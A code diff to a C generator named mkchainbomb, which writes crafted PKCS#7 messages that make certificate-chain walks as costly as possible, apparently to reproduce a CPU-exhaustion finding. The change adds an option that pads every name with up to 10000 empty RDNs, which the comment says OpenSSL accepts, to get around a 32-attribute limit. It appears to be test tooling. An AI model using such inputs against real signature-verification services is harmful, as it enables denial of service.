@@ -2,7 +2,7 @@
 /*
  * mkchainbomb - write the crafted PKCS#7 of the "CPU exhaustion" finding
  *
- *   mkchainbomb NESTED OUT [CERTS [ATTRS]]
+ *   mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY]]]
  *
  * A SignedData that costs a CA-chain walk as much as its structure allows
  * while naming nobody: 16 embedded certificates whose subject and issuer
@@ -18,7 +18,9 @@
  * CERTS (default 16) and names of 4 attributes make the messages small,
  * for tests of nesting; ATTRS sets the attributes per name instead (names
  * of more than 32 attributes do not parse: VENDORBAN_NAME_MAX_ATTRS, so
- * 32 is the most a chain walk can be made to render).
+ * 32 is the most a chain walk can be made to render).  EMPTY appends as
+ * many empty RDNs (an empty SET: OpenSSL takes them) to every name: they
+ * count no attribute, so only the parse budget bounds their walk.
  * Nothing in it verifies; it is a test input, never a signature.
  */
 
@@ -33,6 +35,8 @@
 
 /* Attributes per name: NR_ATTRS, or 4 for the small variant (CERTS). */
 static int nr_attrs = NR_ATTRS;
+/* Empty RDNs after them (EMPTY). */
+static int nr_empty;
 
 struct buf {
 	uint8_t *p;
@@ -114,6 +118,8 @@ static void name(struct buf *b, uint8_t str_tag, const char *first)
 		tlv(&seq, 0x30, &atv);
 		tlv(&rdns, 0x31, &seq);
 	}
+	for (i = 0; i < nr_empty; i++)
+		append(&rdns, "\x31\x00", 2);
 	tlv(b, 0x30, &rdns);
 }
 
@@ -215,13 +221,16 @@ int main(int argc, char **argv)
 	FILE *f;
 	int nr, certs = NR_CERTS;
 
-	if (argc < 3 || argc > 5)
-		die("usage: mkchainbomb NESTED OUT [CERTS [ATTRS]]");
+	if (argc < 3 || argc > 6)
+		die("usage: mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY]]]");
 	nr = atoi(argv[1]);
 	if (argc >= 4) {
 		certs = atoi(argv[3]);
-		nr_attrs = argc == 5 ? atoi(argv[4]) : 4;
+		nr_attrs = argc >= 5 ? atoi(argv[4]) : 4;
+		nr_empty = argc == 6 ? atoi(argv[5]) : 0;
 	}
+	if (nr_empty < 0 || nr_empty > 10000)
+		die("EMPTY must be 0 to 10000");
 	if (certs < NR_SIGNERS || certs > NR_CERTS)
 		die("CERTS must be 4 to 16");
 	if (nr_attrs < 1 || nr_attrs > NR_ATTRS)
